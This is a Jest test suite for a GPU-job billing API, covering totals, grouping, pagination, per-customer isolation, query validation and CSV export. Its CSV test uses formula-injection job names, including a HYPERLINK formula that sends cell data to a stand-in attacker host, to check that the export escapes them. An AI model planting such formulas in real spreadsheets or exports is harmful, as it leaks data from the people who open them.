import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Session } from '../../src/client/session.js';
import { newWallet } from '../support/api.js';
import { putBilledJob, type BilledJob } from '../support/billed-jobs.js';
import { putSession } from '../support/fleet.js';
import { startReplicas, type Replicas } from '../support/replicas.js';

let replicas: Replicas;
beforeAll(async () => {
  replicas = await startReplicas();
});
afterAll(() => replicas.stop());

interface Row {
  key: string;
  name?: string;
  jobs: number;
  seconds: number;
  spent: string;
  reserved: string;
}
interface Billing {
  rows: Row[];
  total: Omit<Row, 'key'>;
  next_cursor?: string;
}
interface Customer {
  session: Session;
  put: (
    job: Omit<BilledJob, 'wallet' | 'sessionId'> & Partial<Pick<BilledJob, 'sessionId'>>,
  ) => ReturnType<typeof putBilledJob>;
  ask: (query: string, headers?: Record<string, string>) => ReturnType<Session['request']>;
  bill: (query: string) => Promise<Billing>;
}

async function customer(): Promise<Customer> {
  const account = newWallet();
  const session = await replicas.api.login({ account, scopes: ['jobs:read'] });
  const wallet = account.address.toLowerCase();
  const sessionId = await putSession(replicas.database.pool, wallet);
  const ask: Customer['ask'] = (query, headers) =>
    session.request('GET', `/api/v1/billing${query}`, undefined, headers);
  return {
    session,
    put: (job) => putBilledJob(replicas.database.pool, { wallet, sessionId, ...job }),
    ask,
    bill: async (query) => (await ask(query)).body as Billing,
  };
}

const at = (text: string) => new Date(`${text}Z`);
/** A rate whose charges have odd digits far beyond those of a floating-point number. */
const rate = 1_234_567_890_123_456_789n;
const sum = (rows: readonly Row[], what: 'spent' | 'reserved') =>
  rows.reduce((all, row) => all + BigInt(row[what]), 0n).toString();

/** What the ledger has for a wallet's jobs. */
async function charged({ session }: Customer): Promise<string> {
  const { rows } = await replicas.database.pool.query<{ spent: string }>(
    'select sum(c.spent)::text as spent from auth_charges c join jobs j using (job_id) where j.wallet = $1',
    [session.wallet.toLowerCase()],
  );
  return rows[0]!.spent;
}

describe('what jobs cost', () => {
  test('the sums by job, by day and by provider are to the last digit what the jobs were charged', async () => {
    const who = await customer();
    for (let hour = 0; hour < 40; hour += 3) {
      const startedAt = new Date(at('2026-11-20T22:10:00.123').getTime() + hour * 3_600_000);
      const endedAt = new Date(startedAt.getTime() + 3_333_337 + hour);
      await who.put({
        startedAt,
        endedAt,
        rate: rate + BigInt(hour),
        providerId: hour % 2 === 0 ? 'atlas' : 'borealis',
      });
    }
    const spent = await charged(who);
    const range = 'from=2026-11-01&to=2026-12-01';
    for (const by of ['job', 'day', 'provider']) {
      const { rows, total } = await who.bill(`?${range}&by=${by}`);
      expect([by, sum(rows, 'spent'), total.spent, total.jobs]).toEqual([by, spent, spent, 14]);
    }
    // Every part of a range is in exactly one of two that meet.
    const parts = [
      await who.bill('?from=2026-11-01&to=2026-11-21T22:00:00Z'),
      await who.bill('?from=2026-11-21T22:00:00Z&to=2026-12-01'),
    ];
    expect(parts.reduce((all, { total }) => all + BigInt(total.spent), 0n).toString()).toBe(spent);
    expect(parts.map(({ total }) => total.jobs)).toEqual([8, 6]);
  });

  test('a job belongs to the day on which it ended, and says how long was paid for', async () => {
    const who = await customer();
    const { spent, jobId } = await who.put({
      ...{ startedAt: at('2026-11-24T23:30:00'), endedAt: at('2026-11-25T00:30:00.250'), rate, providerId: 'atlas' },
      ...{ gpuType: 'rtx-4090', jobName: 'train' },
    });
    const range = 'from=2026-11-24&to=2026-11-26';
    expect((await who.bill(`?${range}&by=day`)).rows).toEqual([
      {
        ...{ key: '2026-11-25', jobs: 1, seconds: 3_600.25, spent: spent.toString(), reserved: '0', refunded: '0' },
        // Of every row, also where no job had any.
        ports: '0',
        ...{ from: '2026-11-24T23:30:00.000Z', to: '2026-11-25T00:30:00.250Z' },
      },
    ]);
    expect((await who.bill(`?${range}`)).rows).toMatchObject([
      { key: jobId, name: 'train', provider_id: 'atlas', gpu_type: 'rtx-4090', spent: spent.toString() },
    ]);
    expect((await who.bill('?from=2026-11-24&to=2026-11-25&by=day')).rows).toEqual([]);
  });

  test('a job that runs counts now, with what is held for it', async () => {
    const who = await customer();
    await who.put({ startedAt: new Date(Date.now() - 60_000), rate, reserved: 77n, providerId: 'atlas' });
    const { rows, total } = await who.bill('?by=provider');
    expect(rows).toMatchObject([{ key: 'atlas', jobs: 1, seconds: 0, spent: '0', reserved: '77' }]);
    expect(total).toMatchObject({ spent: '0', reserved: '77' });
    expect((await who.bill('?from=2026-01-01&to=2026-02-01')).rows).toEqual([]);
  });

  test('the jobs of one session, and those of one type of GPU, are one row', async () => {
    const who = await customer();
    const other = await putSession(replicas.database.pool, who.session.wallet.toLowerCase());
    const day = { startedAt: at('2026-11-24T01:00:00'), endedAt: at('2026-11-24T02:00:00'), rate };
    await who.put({ ...day, gpuType: 'rtx-4090' });
    await who.put({ ...day, gpuType: 'a100' });
    await who.put({ ...day, gpuType: 'rtx-4090', sessionId: other });
    const asked = '?from=2026-11-01&to=2026-12-01&by=';
    const byType = (await who.bill(`${asked}gpu_type`)).rows.map(({ key, jobs }) => [key, jobs]);
    expect(byType).toEqual([
      ['a100', 1],
      ['rtx-4090', 2],
    ]);
    const bySession = (await who.bill(`${asked}session`)).rows;
    expect(bySession.map(({ jobs }) => jobs).sort()).toEqual([1, 2]);
    expect(bySession.find(({ jobs }) => jobs === 1)!.key).toBe(other);
    const csv = (await who.ask(`${asked}session`, { accept: 'text/csv' })).body as string;
    expect(csv).toMatch(/^session_id,jobs,seconds,/);
  });

  test('a customer sees nothing of another’s jobs', async () => {
    const [who, other] = [await customer(), await customer()];
    await other.put({ startedAt: at('2026-11-24T01:00:00'), endedAt: at('2026-11-24T02:00:00'), rate });
    expect(await who.bill('?from=2026-11-01&to=2026-12-01')).toMatchObject({
      rows: [],
      total: { jobs: 0, spent: '0' },
    });
  });

  test.each(['job', 'day', 'provider', 'gpu_type'])(
    'pages by %s have every row once, and the total of all of them',
    async (by) => {
      const who = await customer();
      for (let day = 1; day <= 7; day++) {
        await who.put({
          ...{ startedAt: at(`2026-11-0${day}T01:00:00`), endedAt: at(`2026-11-0${day}T02:00:00`), rate },
          ...(day === 4 ? {} : { providerId: `prov-${day}`, gpuType: `gpu-${day}` }),
        });
      }
      const spent = await charged(who);
      const found: Row[] = [];
      let cursor: string | undefined;
      do {
        const page = await who.bill(
          `?from=2026-11-01&to=2026-12-01&limit=2&by=${by}${cursor === undefined ? '' : `&cursor=${cursor}`}`,
        );
        expect(page.total.spent).toBe(spent);
        found.push(...page.rows);
        cursor = page.next_cursor;
      } while (cursor !== undefined);
      expect(new Set(found.map(({ key }) => key)).size).toBe(7);
      expect(sum(found, 'spent')).toBe(spent);
    },
  );

  test.each([
    ['a range that ends before it begins', 'from=2026-11-02&to=2026-11-01', 'query.from'],
    ['a range of more than a year', 'from=2024-11-02&to=2026-11-01', 'query.from'],
    ['a day that does not exist', 'from=2026-02-30', 'query.from'],
    ['what is no time', 'to=tomorrow', 'query.to'],
    ['another grouping', 'by=wallet', 'query.by'],
    ['an unknown field', 'group_by=day', 'query.group_by'],
    ['a cursor of another list', 'by=day&cursor=WyJ4Il0', 'query.cursor'],
  ])('%s is refused', async (_, query, field) => {
    const { status, body } = await (await customer()).ask(`?${query}`);
    expect([status, body]).toMatchObject([422, { errors: [{ field }] }]);
  });
});

describe('the table for a spreadsheet', () => {
  test('the table has all rows, and no name of a stranger becomes a formula', async () => {
    const who = await customer();
    const names = ['=HYPERLINK("http://evil.example?"&A1)', '+1', '-1', '@SUM(1)', ' =1', 'plain, with "quotes"'];
    const spent: string[] = [];
    for (const jobName of names) {
      const job = { startedAt: at('2026-11-24T01:00:00'), endedAt: at('2026-11-24T02:00:00'), rate, jobName };
      spent.push((await who.put({ ...job, providerId: 'atlas', gpuType: '=l4' })).spent.toString());
    }
    const reply = await who.ask('?from=2026-11-01&to=2026-12-01&limit=1', { accept: 'text/csv' });
    expect(reply.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(reply.headers.get('content-disposition')).toBe('attachment; filename="billing-2026-11-01-2026-12-01.csv"');
    const lines = (reply.body as string).split('\r\n');
    expect(lines.shift()).toBe(
      'job_id,name,provider_id,gpu_type,from,to,seconds,spent,reserved,refunded,spent_tokens,reserved_tokens,refunded_tokens',
    );
    expect(lines.pop()).toBe('');
    const times = '2026-11-24T01:00:00.000Z,2026-11-24T02:00:00.000Z';
    const cells = [
      `"'=HYPERLINK(""http://evil.example?""&A1)"`,
      `'+1`,
      `'-1`,
      `'@SUM(1)`,
      `'=1`,
      `"plain, with ""quotes"""`,
    ];
    expect(lines.map((line) => line.slice(37)).sort()).toEqual(
      cells.map((name, at) => `${name},atlas,'=l4,${times},3600,${spent[at]},0,0,1.234567890123456789,0,0`).sort(),
    );
  });

  test('a client that takes anything gets JSON', async () => {
    const { headers } = await (
      await customer()
    ).ask(`?from=${encodeURIComponent('2026-11-01T00:00:00+09:00')}`, { accept: '*/*' });
    expect(headers.get('content-type')).toMatch(/^application\/json/);
    expect(headers.get('vary')).toContain('accept');
  });
});
